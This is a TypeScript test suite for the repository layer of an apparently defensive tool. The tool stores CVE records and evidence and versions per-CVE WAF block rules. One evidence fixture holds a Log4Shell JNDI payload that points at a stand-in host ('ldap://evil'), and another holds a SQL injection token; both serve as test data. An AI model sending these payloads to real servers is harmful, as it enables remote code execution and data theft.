// The repository suite every backend runs: PGlite in a temporary folder, PostgreSQL in a fresh
// database and DynamoDB on dynalite. A backend provides a harness; the suite opens its store once
// (PGlite start-up is WASM and costs seconds) and every test works on its own CVE ids.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import {
  appliedMigrations,
  isUniqueViolation,
  KNOWN_MIGRATIONS,
  migrateToLatest,
  type EvidenceInput,
  type Store,
} from '../../src/store/index.js';
import { contestedBundled, contestedMerged, contestedNvd, vuln } from './fixtures.js';

export interface StoreHarness {
  /** Opens the store on a fresh, empty database. Called once. */
  open(): Promise<Store>;
  /**
   * Another Store onto the same database, as a second replica would hold (its own pool). PGlite is
   * single-process, so there it is the same store (its operations still interleave).
   */
  openPeer(store: Store): Promise<Store>;
  cleanup(): Promise<void>;
  /**
   * When the record's content and its fetched_at last changed, read beside the repositories; the
   * SQL stores' columns by default. A harness that gives its own has no SQL migrations either.
   */
  timestamps?(store: Store, id: string): Promise<{ updated: number; fetched: number }>;
}

async function sqlTimestamps(store: Store, id: string): Promise<{ updated: number; fetched: number }> {
  const row = await store.db
    .selectFrom('vulnerabilities')
    .select(['updated_at', 'fetched_at'])
    .where('id', '=', id)
    .executeTakeFirstOrThrow();
  return { updated: row.updated_at.getTime(), fetched: row.fetched_at.getTime() };
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

export function defineStoreSuite(name: string, harness: StoreHarness | undefined): void {
  describe.skipIf(harness === undefined)(`store repositories (${name})`, () => {
    let store: Store;
    let peer: Store;
    const timestamps = harness?.timestamps ?? sqlTimestamps;

    beforeAll(async () => {
      const h = harness as StoreHarness;
      const started = performance.now();
      store = await h.open();
      console.log(`${name}: store opened and migrated in ${Math.round(performance.now() - started)} ms`);
      peer = await h.openPeer(store);
    }, 120_000);

    afterAll(async () => {
      if (peer !== undefined && peer !== store) await peer.close();
      await store?.close();
      await harness?.cleanup();
    }, 60_000);

    describe.skipIf(harness?.timestamps !== undefined)('migrations', () => {
      it('applied every migration on the fresh database, and running them again does nothing', async () => {
        expect(store.migrated).toEqual(KNOWN_MIGRATIONS);
        expect(await migrateToLatest(store.db)).toEqual([]);
        expect(await migrateToLatest(store.db)).toEqual([]);
        expect(await appliedMigrations(store.db)).toEqual(KNOWN_MIGRATIONS);
      });
    });

    describe('vulns', () => {
      it('inserts a record and reads it back parsed, by any spelling of its id', async () => {
        const r = await store.vulns.upsert(
          vuln('cve-2021-0101', {
            title: 'Example',
            cwes: ['CWE-79'],
            cvss: { score: 6.1, version: '3.1' },
            severity: 'medium',
            published: '2021-01-01T00:00:00.000',
            exploit: { attackClass: 'xss', parameters: ['q'] },
          }),
        );
        expect(r.status).toBe('inserted');
        const got = await store.vulns.get(' Cve-2021-0101 ');
        expect(got).toEqual({
          id: 'CVE-2021-0101',
          title: 'Example',
          description: 'Description of cve-2021-0101',
          cwes: ['CWE-79'],
          cvss: { score: 6.1, version: '3.1' },
          severity: 'medium',
          cpes: [],
          references: [],
          kev: false,
          published: '2021-01-01T00:00:00.000',
          source: 'nvd',
          fetchedAt: '2024-05-01T00:00:00.000Z',
          tags: [],
          exploit: {
            attackClass: 'xss',
            endpoints: [],
            parameters: ['q'],
            methods: [],
            headers: [],
            payloadTokens: [],
          },
        });
        expect(got).toEqual(r.record);
        expect(await store.vulns.get('CVE-1999-0000')).toBeUndefined();
        expect(await store.vulns.get('not a cve')).toBeUndefined();
      });

      it('rejects an invalid record', async () => {
        await expect(store.vulns.upsert({ id: 'CVE-XX', source: 'nvd', fetchedAt: 'now' })).rejects.toThrow();
        await expect(store.vulns.upsert(vuln('CVE-2021-0102', { fetchedAt: 'yesterday' }))).rejects.toThrow(
          /fetchedAt/,
        );
      });

      it('re-importing the same record changes nothing but fetched_at', async () => {
        const rec = vuln('CVE-2021-0201', { modified: '2021-02-01T00:00:00.000', tags: ['a'] });
        await store.vulns.upsert(rec);
        const before = await timestamps(store, 'CVE-2021-0201');
        const countBefore = await store.vulns.count();
        await sleep(5);
        const again = await store.vulns.upsert({ ...rec, fetchedAt: '2024-06-01T00:00:00Z' });
        expect(again.status).toBe('unchanged');
        const after = await timestamps(store, 'CVE-2021-0201');
        expect(after.updated).toBe(before.updated);
        expect(after.fetched).toBe(Date.parse('2024-06-01T00:00:00Z'));
        expect(await store.vulns.count()).toBe(countBefore);
        // An older copy does not move fetched_at back.
        expect((await store.vulns.upsert(rec)).status).toBe('unchanged');
        expect((await store.vulns.get('CVE-2021-0201'))?.fetchedAt).toBe('2024-06-01T00:00:00.000Z');
        // A real change does touch updated_at.
        expect((await store.vulns.upsert({ ...rec, description: 'changed' })).status).toBe('updated');
        expect((await timestamps(store, 'CVE-2021-0201')).updated).toBeGreaterThan(before.updated);
      });

      it('keeps kev=true once set, even when a newer record says otherwise', async () => {
        await store.vulns.upsert(vuln('CVE-2021-0301', { kev: true, kevDateAdded: '2021-11-03' }));
        const r = await store.vulns.upsert(
          vuln('CVE-2021-0301', { kev: false, modified: '2022-01-01T00:00:00Z', description: 'newer' }),
        );
        expect(r.status).toBe('updated');
        expect(await store.vulns.get('CVE-2021-0301')).toMatchObject({
          kev: true,
          kevDateAdded: '2021-11-03',
          description: 'newer',
        });
      });

      it('lets the newer modified date win and fills gaps from the older record', async () => {
        await store.vulns.upsert(
          vuln('CVE-2021-0401', {
            description: 'new text',
            modified: '2023-03-01T10:00:00.000',
            severity: 'high',
            source: 'nvd',
          }),
        );
        const r = await store.vulns.upsert(
          vuln('CVE-2021-0401', {
            description: 'old text',
            title: 'Only the old record has a title',
            modified: '2022-03-01T10:00:00.000Z',
            severity: 'low',
            source: 'cve5',
            references: ['https://example.com/advisory'],
          }),
        );
        expect(r.status).toBe('updated');
        expect(await store.vulns.get('CVE-2021-0401')).toMatchObject({
          description: 'new text',
          severity: 'high',
          source: 'nvd',
          modified: '2023-03-01T10:00:00.000',
          title: 'Only the old record has a title',
          references: ['https://example.com/advisory'],
        });
        // A newer one replaces the descriptive fields.
        await store.vulns.upsert(
          vuln('CVE-2021-0401', {
            description: 'newest',
            modified: '2024-01-01T00:00:00Z',
            severity: 'critical',
          }),
        );
        expect(await store.vulns.get('CVE-2021-0401')).toMatchObject({
          description: 'newest',
          severity: 'critical',
        });
      });

      it('keeps bundled exploit facts when the incoming record has none, and takes new ones', async () => {
        const exploit = { attackClass: 'sqli' as const, parameters: ['id'], payloadTokens: ["' or 1=1"] };
        await store.vulns.upsert(vuln('CVE-2021-0501', { source: 'bundled', exploit }));
        await store.vulns.upsert(vuln('CVE-2021-0501', { modified: '2024-01-01T00:00:00Z', source: 'nvd' }));
        expect((await store.vulns.get('CVE-2021-0501'))?.exploit).toMatchObject(exploit);
        await store.vulns.upsert(
          vuln('CVE-2021-0501', { exploit: { attackClass: 'xss', parameters: ['q'] } }),
        );
        expect((await store.vulns.get('CVE-2021-0501'))?.exploit).toMatchObject({
          attackClass: 'xss',
          parameters: ['q'],
        });
      });

      it('merges the same way whichever of two records arrives first', async () => {
        await store.vulns.upsert(contestedBundled);
        await store.vulns.upsert(contestedNvd);
        expect(await store.vulns.get('CVE-2023-46604')).toMatchObject(contestedMerged);
        const again = await store.vulns.upsert(contestedBundled);
        expect(again.status).toBe('unchanged');
        expect(await store.vulns.get('CVE-2023-46604')).toMatchObject(contestedMerged);
      });

      it('upsertMany counts, merges duplicates within the batch and spans several transactions', async () => {
        const many = Array.from({ length: 450 }, (_, i) => vuln(`CVE-2019-${String(10000 + i)}`));
        const first = await store.vulns.upsertMany([
          ...many,
          vuln('CVE-2019-10000', { kev: true, kevDateAdded: '2022-02-02' }),
        ]);
        expect(first).toEqual({ inserted: 450, updated: 0, unchanged: 0 });
        expect((await store.vulns.get('CVE-2019-10000'))?.kev).toBe(true);
        const second = await store.vulns.upsertMany([
          ...many.slice(0, 300),
          vuln('CVE-2019-10001', { description: 'changed' }),
          vuln('CVE-2019-99999'),
        ]);
        expect(second).toEqual({ inserted: 1, updated: 1, unchanged: 299 });
        expect(await store.vulns.upsertMany([])).toEqual({ inserted: 0, updated: 0, unchanged: 0 });
      });

      describe('list and count', () => {
        beforeAll(async () => {
          await store.vulns.upsertMany([
            vuln('CVE-2021-9999', { kev: true, severity: 'critical', vendor: 'ListCo' }),
            vuln('CVE-2021-44228', { kev: true, severity: 'critical', vendor: 'listco', product: 'log4j' }),
            vuln('CVE-2019-0001', { severity: 'high', vendor: 'listco', description: 'a 100%_literal' }),
            vuln('CVE-2024-12345', { severity: 'medium', vendor: 'listco', description: 'a split finding' }),
            vuln('CVE-2020-5555', { severity: 'low', vendor: 'listco', title: 'Widget overflow' }),
          ]);
        });
        const ids = (records: { id: string }[]) => records.map((r) => r.id);

        it('lists newest CVE first, with limit and offset', async () => {
          expect(ids(await store.vulns.list({ search: 'listco' }))).toEqual([
            'CVE-2024-12345',
            'CVE-2021-44228',
            'CVE-2021-9999',
            'CVE-2020-5555',
            'CVE-2019-0001',
          ]);
          expect(ids(await store.vulns.list({ search: 'listco', limit: 2, offset: 1 }))).toEqual([
            'CVE-2021-44228',
            'CVE-2021-9999',
          ]);
        });

        it('filters on KEV and severity', async () => {
          expect(ids(await store.vulns.list({ search: 'listco', kev: true }))).toEqual([
            'CVE-2021-44228',
            'CVE-2021-9999',
          ]);
          expect(await store.vulns.list({ search: 'listco', kev: false })).toHaveLength(3);
          expect(ids(await store.vulns.list({ search: 'listco', severity: ['high', 'low'] }))).toEqual([
            'CVE-2020-5555',
            'CVE-2019-0001',
          ]);
          expect(await store.vulns.list({ search: 'listco', severity: 'critical' })).toHaveLength(2);
          expect(await store.vulns.list({ severity: [] })).toEqual([]);
        });

        it('searches id, title, description, vendor and product, case-insensitively and literally', async () => {
          expect(ids(await store.vulns.list({ search: 'WIDGET' }))).toEqual(['CVE-2020-5555']);
          expect(ids(await store.vulns.list({ search: 'cve-2021-4422' }))).toEqual(['CVE-2021-44228']);
          expect(ids(await store.vulns.list({ search: 'LOG4J' }))).toEqual(['CVE-2021-44228']);
          // % and _ are not wildcards: "split" must not match "%_lit".
          expect(ids(await store.vulns.list({ search: '%_lit' }))).toEqual(['CVE-2019-0001']);
          expect(await store.vulns.list({ search: 'no such text anywhere' })).toEqual([]);
        });

        it('counts with and without a filter', async () => {
          expect(await store.vulns.count({ search: 'listco' })).toBe(5);
          expect(await store.vulns.count({ search: 'listco', kev: true, severity: 'critical' })).toBe(2);
          expect(await store.vulns.count()).toBeGreaterThanOrEqual(5);
        });
      });

      it('markKev flags known records, keeps an existing date and reports unknown ids', async () => {
        await store.vulns.upsertMany([
          vuln('CVE-2021-0601'),
          vuln('CVE-2021-0602', { kev: true, kevDateAdded: '2021-01-01' }),
        ]);
        const r = await store.vulns.markKev(
          ['cve-2021-0601', 'CVE-2021-0602', 'CVE-2021-0699'],
          '2024-03-03',
        );
        expect(r).toEqual({ updated: 1, missing: ['CVE-2021-0699'] });
        expect(await store.vulns.get('CVE-2021-0601')).toMatchObject({
          kev: true,
          kevDateAdded: '2024-03-03',
        });
        expect(await store.vulns.get('CVE-2021-0602')).toMatchObject({
          kev: true,
          kevDateAdded: '2021-01-01',
        });
        expect(await store.vulns.markKev(['CVE-2021-0601'], '2025-01-01')).toEqual({
          updated: 0,
          missing: [],
        });
        expect(await store.vulns.markKev([], '2025-01-01')).toEqual({ updated: 0, missing: [] });
        await expect(store.vulns.markKev(['nope'], '2025-01-01')).rejects.toThrow(/CVE id/);
      });

      it('stores text PostgreSQL cannot hold as is (NUL, lone surrogates) and gives it back', async () => {
        const odd = 'nul:\u0000 lone:\ud800 mark:\ufdd0 end';
        await store.vulns.upsert(vuln('CVE-2021-0701', { description: odd, tags: [odd] }));
        expect(await store.vulns.get('CVE-2021-0701')).toMatchObject({ description: odd, tags: [odd] });
        expect(
          (await store.vulns.upsert(vuln('CVE-2021-0701', { description: odd, tags: [odd] }))).status,
        ).toBe('unchanged');
      });

      it('concurrent upserts of one CVE from two stores leave one merged record', async () => {
        const id = 'CVE-2021-0801';
        const a = { ...contestedBundled, id };
        const b = { ...contestedNvd, id };
        await Promise.all([
          store.vulns.upsert(a),
          peer.vulns.upsert(b),
          store.vulns.upsertMany([b, a]),
          peer.vulns.upsertMany([a]),
        ]);
        expect(await store.vulns.get(id)).toMatchObject({ ...contestedMerged, id });
        expect(await store.vulns.count({ search: id })).toBe(1);
      });
    });

    describe('evidence', () => {
      const request: EvidenceInput = {
        cveId: 'cve-2021-44228',
        kind: 'request',
        source: 'corpus',
        request: {
          id: 'CVE-2021-44228#1',
          method: 'POST',
          uri: '/api?x=${jndi:ldap://evil/a}',
          headers: [
            ['Host', 'target.example'],
            ['X-Api-Version', '${jndi:ldap://evil/a}'],
          ],
          body: 'a=%00&b=\u0000',
        },
        fetchedAt: '2024-05-01T00:00:00Z',
        contentHash: 'sha256:aaaa',
      };

      it('adds evidence once per content hash and reads it back in order', async () => {
        const first = await store.evidence.add(request);
        expect(first.added).toBe(true);
        const dup = await store.evidence.add({ ...request, source: 'elsewhere', cveId: 'CVE-2021-44228' });
        expect(dup).toEqual({ added: false, id: first.id });
        const article = await store.evidence.add({
          cveId: 'CVE-2021-44228',
          kind: 'article',
          source: 'https://example.com/post',
          title: 'Write-up',
          text: 'untrusted text',
          fetchedAt: '2024-05-02T00:00:00Z',
          contentHash: 'sha256:bbbb',
        });
        expect(article.added).toBe(true);
        expect(article.id).toBeGreaterThan(first.id);
        // The same content for another CVE is another piece of evidence.
        expect((await store.evidence.add({ ...request, cveId: 'CVE-2021-45046' })).added).toBe(true);

        const all = await store.evidence.forCve('cve-2021-44228');
        expect(all.map((e) => e.kind)).toEqual(['request', 'article']);
        expect(all[0]).toEqual({
          cveId: 'CVE-2021-44228',
          kind: 'request',
          source: 'corpus',
          request: { ...request.request, expect: 'block' },
          fetchedAt: '2024-05-01T00:00:00.000Z',
          contentHash: 'sha256:aaaa',
        });
        expect(await store.evidence.forCve('CVE-2021-44228', { kind: 'article' })).toHaveLength(1);
        expect(await store.evidence.forCve('CVE-2000-0000')).toEqual([]);
      });

      it('keeps signatures and rejects invalid evidence', async () => {
        await store.evidence.add({
          cveId: 'CVE-2022-22965',
          kind: 'signature',
          source: 'heuristic',
          signature: { attackClass: 'code-injection', parameters: ['class.module.classLoader'] },
          extractor: 'heuristic',
          fetchedAt: '2024-05-01T00:00:00Z',
          contentHash: 'sha256:cccc',
        });
        const [sig] = await store.evidence.forCve('CVE-2022-22965');
        expect(sig?.signature?.parameters).toEqual(['class.module.classLoader']);
        expect(sig?.extractor).toBe('heuristic');
        await expect(
          // @ts-expect-error kind is not one of the known kinds
          store.evidence.add({ ...request, kind: 'rumour', contentHash: 'sha256:dddd' }),
        ).rejects.toThrow();
      });
    });

    describe('rules', () => {
      const rule = (n: number) => ({
        Name: `cve-rule-${n}`,
        Priority: 1,
        Action: { Block: {} },
        Statement: { ByteMatchStatement: { SearchString: `tok${n}`, PositionalConstraint: 'CONTAINS' } },
        VisibilityConfig: { SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: 'm' },
      });

      it('versions a CVE rule only when the rule or its inputs change', async () => {
        const cve = 'CVE-2021-1001';
        const v1 = await store.rules.saveVersion(cve, {
          rule: rule(1),
          inputsHash: 'in-1',
          engine: 'builtin',
          report: { attempts: 1 },
        });
        expect(v1).toMatchObject({ cveId: cve, version: 1, created: true, engine: 'builtin', rule: rule(1) });
        expect(v1.provider).toBeUndefined();

        // Same rule (keys in another order), same inputs, another report: nothing new.
        const reordered = Object.fromEntries(Object.entries(rule(1)).reverse());
        const same = await store.rules.saveVersion('cve-2021-1001', {
          rule: reordered,
          inputsHash: 'in-1',
          engine: 'llm',
          report: { attempts: 7 },
        });
        expect(same).toMatchObject({
          version: 1,
          created: false,
          engine: 'builtin',
          report: { attempts: 1 },
        });

        const v2 = await store.rules.saveVersion(cve, {
          rule: rule(1),
          inputsHash: 'in-2',
          engine: 'builtin',
          report: {},
        });
        expect(v2).toMatchObject({ version: 2, created: true });
        const v3 = await store.rules.saveVersion(cve, {
          rule: rule(3),
          inputsHash: 'in-2',
          engine: 'llm',
          provider: 'openai',
          model: 'gpt-x',
          report: { tokens: 10 },
        });
        expect(v3).toMatchObject({ version: 3, created: true, provider: 'openai', model: 'gpt-x' });

        expect(await store.rules.latest(cve)).toMatchObject({ version: 3, rule: rule(3) });
        expect(await store.rules.get(cve, 2)).toMatchObject({
          version: 2,
          inputsHash: 'in-2',
          rule: rule(1),
        });
        expect(await store.rules.get(cve, 9)).toBeUndefined();
        expect((await store.rules.versions(cve)).map((r) => r.version)).toEqual([1, 2, 3]);
        expect(await store.rules.latest('CVE-1999-0001')).toBeUndefined();
        expect(await store.rules.versions('CVE-1999-0001')).toEqual([]);
      });

      it('finds a rule holding a NUL and a lone surrogate unchanged when it is saved again', async () => {
        const cve = 'CVE-2021-1004';
        const odd = { ...rule(4), Statement: { ByteMatchStatement: { SearchString: 'a\u0000b\ud800c' } } };
        const input = { rule: odd, inputsHash: 'in-4', engine: 'builtin', report: { note: '\u0000' } };
        const first = await store.rules.saveVersion(cve, input);
        // What a save hands back is what a read of its row gives, NUL and lone surrogate included
        // (the SQL stores do not send the rule and report back: they read what they sent).
        const { created, ...saved } = first;
        expect(created).toBe(true);
        expect(saved).toEqual(await store.rules.get(cve, 1));
        expect(saved.report).toEqual({ note: '\u0000' });
        const again = await store.rules.saveVersion(cve, { ...input, report: {} });
        expect([first.created, again.created, again.version]).toEqual([true, false, 1]);
        expect(again.rule).toEqual(odd);
        expect(again.report).toEqual({ note: '\u0000' });
        const changed = await store.rules.saveVersion(cve, {
          ...input,
          rule: { ...odd, Statement: { ByteMatchStatement: { SearchString: 'a\u0000b\ud800d' } } },
        });
        expect([changed.created, changed.version]).toEqual([true, 2]);
      });

      it('concurrent saves from two stores get consecutive versions, never duplicates', async () => {
        const cve = 'CVE-2021-1002';
        const saved = await Promise.all(
          Array.from({ length: 12 }, (_, i) =>
            (i % 2 ? peer : store).rules.saveVersion(cve, {
              rule: rule(i),
              inputsHash: `in-${i}`,
              engine: 'builtin',
              report: {},
            }),
          ),
        );
        expect(saved.every((s) => s.created)).toBe(true);
        expect(saved.map((s) => s.version).sort((a, b) => a - b)).toEqual(
          Array.from({ length: 12 }, (_, i) => i + 1),
        );
        const versions = await store.rules.versions(cve);
        expect(versions.map((v) => v.version)).toEqual(Array.from({ length: 12 }, (_, i) => i + 1));
        expect(new Set(versions.map((v) => v.inputsHash)).size).toBe(12);
      });

      it('concurrent saves of the same rule create exactly one version', async () => {
        const cve = 'CVE-2021-1003';
        const input = { rule: rule(5), inputsHash: 'in-5', engine: 'builtin', report: {} };
        const saved = await Promise.all(
          Array.from({ length: 8 }, (_, i) => (i % 2 ? peer : store).rules.saveVersion(cve, input)),
        );
        expect(saved.filter((s) => s.created)).toHaveLength(1);
        expect(new Set(saved.map((s) => s.version))).toEqual(new Set([1]));
      });
    });

    describe('jobs', () => {
      it('creates, reads, updates and lists jobs', async () => {
        const a = await store.jobs.create({
          kind: 'generate',
          cveId: 'cve-2021-44228',
          payload: { engine: 'auto' },
        });
        expect(a).toMatchObject({ kind: 'generate', cveId: 'CVE-2021-44228', status: 'queued', attempts: 0 });
        expect(a.id).toMatch(/^[0-9a-f-]{36}$/);
        const b = await store.jobs.create({ id: 'job-b', kind: 'import', payload: ['f.jsonl'] });
        expect(await store.jobs.get('job-b')).toEqual(b);
        expect(await store.jobs.get('missing')).toBeUndefined();

        await sleep(5);
        const running = await store.jobs.update(a.id, { status: 'running', attempts: 1 });
        expect(running).toMatchObject({ status: 'running', attempts: 1, payload: { engine: 'auto' } });
        expect(Date.parse(running?.updatedAt ?? '')).toBeGreaterThan(Date.parse(a.updatedAt));
        const failed = await store.jobs.update(a.id, { status: 'failed', error: 'boom' });
        expect(failed).toMatchObject({ status: 'failed', error: 'boom', attempts: 1 });
        const done = await store.jobs.update(a.id, {
          status: 'succeeded',
          error: null,
          result: { version: 2 },
        });
        expect(done).toMatchObject({ status: 'succeeded', result: { version: 2 } });
        expect(done?.error).toBeUndefined();
        expect(await store.jobs.update('missing', { status: 'dead' })).toBeUndefined();
        // @ts-expect-error not a status
        await expect(store.jobs.update(a.id, { status: 'lost' })).rejects.toThrow(/status/);

        expect((await store.jobs.list({ status: 'succeeded' })).map((j) => j.id)).toContain(a.id);
        expect(
          (await store.jobs.list({ status: ['queued', 'running'], kind: 'import' })).map((j) => j.id),
        ).toEqual(['job-b']);
        expect((await store.jobs.list({ cveId: 'CVE-2021-44228' })).map((j) => j.id)).toEqual([a.id]);
        expect(await store.jobs.list({ status: [] })).toEqual([]);
        await expect(store.jobs.create({ id: 'job-b', kind: 'import' })).rejects.toThrow();
      });

      it('concurrent creates of one job id from two stores: exactly one wins, the rest are unique violations', async () => {
        const outcomes = await Promise.allSettled(
          Array.from({ length: 6 }, (_, i) =>
            (i % 2 ? peer : store).jobs.create({ id: 'job-race', kind: 'generate', payload: { n: i } }),
          ),
        );
        const won = outcomes.filter((o) => o.status === 'fulfilled');
        expect(won).toHaveLength(1);
        for (const o of outcomes) if (o.status === 'rejected') expect(isUniqueViolation(o.reason)).toBe(true);
        // The stored job is the winner's, untouched by the losers.
        expect(await store.jobs.get('job-race')).toEqual(won[0]!.value);
      });

      it('claims a job for a run unless it already succeeded', async () => {
        const job = await store.jobs.create({ id: 'job-claim', kind: 'generate', payload: { n: 1 } });
        const first = await store.jobs.claim(job.id, 1);
        expect(first).toMatchObject({ id: job.id, status: 'running', attempts: 1, payload: { n: 1 } });
        await store.jobs.update(job.id, { status: 'queued', error: 'boom' });
        expect(await store.jobs.claim(job.id, 2)).toMatchObject({
          status: 'running',
          attempts: 2,
          error: 'boom',
        });
        await store.jobs.update(job.id, { status: 'succeeded', result: { version: 3 } });
        // Delivered again after it finished: the job as it was, not running again.
        const again = await store.jobs.claim(job.id, 3);
        expect(again).toMatchObject({ status: 'succeeded', attempts: 2, result: { version: 3 } });
        expect(await store.jobs.get(job.id)).toEqual(again);
        expect(await store.jobs.claim('missing', 1)).toBeUndefined();
      });
    });

    describe('audit', () => {
      it('records events and lists them newest first by type, CVE, request and time', async () => {
        const e1 = await store.audit.record({
          type: 'rule.generated',
          at: '2024-01-01T00:00:00Z',
          cveId: 'cve-2021-44228',
          requestId: 'req-1',
          principal: 'cli',
          data: { version: 1, nested: { ok: true } },
        });
        expect(e1).toMatchObject({
          type: 'rule.generated',
          at: '2024-01-01T00:00:00.000Z',
          cveId: 'CVE-2021-44228',
          requestId: 'req-1',
          principal: 'cli',
          data: { version: 1, nested: { ok: true } },
        });
        const e2 = await store.audit.record({ type: 'rule.deployed', at: new Date('2024-01-02T00:00:00Z') });
        expect(e2.data).toEqual({});
        const e3 = await store.audit.record({ type: 'rule.generated', cveId: 'CVE-2021-45046' });

        expect((await store.audit.list({ type: 'rule.generated' })).map((e) => e.id)).toEqual([e3.id, e1.id]);
        expect((await store.audit.list({ cveId: 'CVE-2021-44228' })).map((e) => e.id)).toEqual([e1.id]);
        expect((await store.audit.list({ requestId: 'req-1' })).map((e) => e.id)).toEqual([e1.id]);
        expect(
          (await store.audit.list({ since: '2024-01-01T12:00:00Z', until: '2024-06-01T00:00:00Z' })).map(
            (e) => e.id,
          ),
        ).toEqual([e2.id]);
        expect(await store.audit.list({ limit: 1 })).toHaveLength(1);
      });
    });
  });
}
